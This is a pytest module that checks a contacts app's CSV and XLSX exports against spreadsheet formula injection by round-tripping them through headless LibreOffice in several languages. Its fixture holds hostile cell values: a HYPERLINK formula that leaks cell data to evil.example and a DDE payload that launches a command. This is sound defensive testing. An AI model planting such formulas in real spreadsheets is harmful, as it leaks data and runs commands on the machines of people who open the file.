"""What a real spreadsheet program makes of our exports: LibreOffice, headless, opens each file
as a person would and saves it as XLSX, whose cells then say which were taken for formulas."""

import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jeg_contacts.contacts.models import Contact
from jeg_contacts.extensions import db
from tests.directory.conftest import make_contact
from tests.exports.test_export_formats import export_bytes

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice (soffice) is not installed; .ci/run installs it"
)

# CSV as LibreOffice's import dialog reads it with every option that could turn text into
# something else switched on: comma-separated, UTF-8, special numbers detected and formulas
# evaluated (tokens 1-4, 8 and 13 of its CSV filter options), in the language of token 6.
CSV_WORST_CASE = "CSV:44,34,76,1,,{language},false,true,false,false,false,-1,true"
# LibreOffice's language codes: English (US), French, Russian, German.
LANGUAGES = {"en": 1033, "fr": 1036, "ru": 1049, "de": 1031}
PHONES = [
    "+41 22 917 12 34",
    "+33 1 23 45 67 89",
    "+7 (495) 123-45-67",
    "+44 (0)20 7946 0958",
    "+49 30 1234-56",
    "+1 2.5",
]
FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?leak="&A2;"Open")',
    "family_name": "=1+1",
    "job_title": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _open_and_save(source: Path, tmp_path: Path, infilter: str | None = None) -> Path:
    """`source` opened in LibreOffice and saved as XLSX (a fresh profile: runs may overlap)."""
    out = tmp_path / f"saved-{source.suffix[1:]}"
    command = [
        SOFFICE,
        f"-env:UserInstallation=file://{tmp_path / 'profile'}",
        "--headless",
        "--norestore",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
        str(source),
    ]
    if infilter:
        command.insert(3, f"--infilter={infilter}")
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return out / f"{source.stem}.xlsx"


def _formula_count(saved: Path) -> int:
    with zipfile.ZipFile(saved) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    return sheet.count("<f>") + sheet.count("<f ")


def _column(saved: Path, title: str) -> list[object]:
    sheet = load_workbook(saved).active
    header = [cell.value for cell in sheet[1]]
    return [row[header.index(title)].value for row in sheet.iter_rows(min_row=2)]


@pytest.fixture
def exported(app, tmp_path) -> dict[str, Path]:
    ids = [make_contact(app, email=f"phone{number}@example.org") for number in range(len(PHONES))]
    hostile_id = make_contact(app, email="eve@example.org")
    with app.app_context():
        for contact_id, phone in zip(ids, PHONES, strict=True):
            db.session.get(Contact, contact_id).phone = phone
        contact = db.session.get(Contact, hostile_id)
        for field, formula in FORMULAS.items():  # stored directly, past the sign-up rules
            setattr(contact, field, formula)
        db.session.commit()
    files = {}
    for format_key in ("csv", "xlsx"):
        files[format_key] = tmp_path / f"contacts.{format_key}"
        files[format_key].write_bytes(export_bytes(app, format_key))
    return files


def test_the_oracle_sees_a_formula_in_an_unneutralised_file(tmp_path):
    # Without this, a LibreOffice that never evaluated anything would pass the tests below.
    raw = tmp_path / "raw.csv"
    raw.write_text("Phone,Job title\r\n+41 22 917 12 34,=1+1\r\n")

    saved = _open_and_save(raw, tmp_path, CSV_WORST_CASE.format(language=LANGUAGES["en"]))

    assert _formula_count(saved) == 1


@pytest.mark.parametrize(
    ("format_key", "language"), [("xlsx", None), *(("csv", code) for code in LANGUAGES)]
)
def test_libreoffice_runs_nothing_and_reads_phone_numbers_as_typed(
    exported, tmp_path, format_key, language
):
    infilter = CSV_WORST_CASE.format(language=LANGUAGES[language]) if language else None
    saved = _open_and_save(exported[format_key], tmp_path, infilter)

    assert _formula_count(saved) == 0
    assert sorted(value for value in _column(saved, "Phone") if value) == sorted(PHONES)
    assert "'=1+1" in _column(saved, "Family name")  # shown as text, apostrophe and all
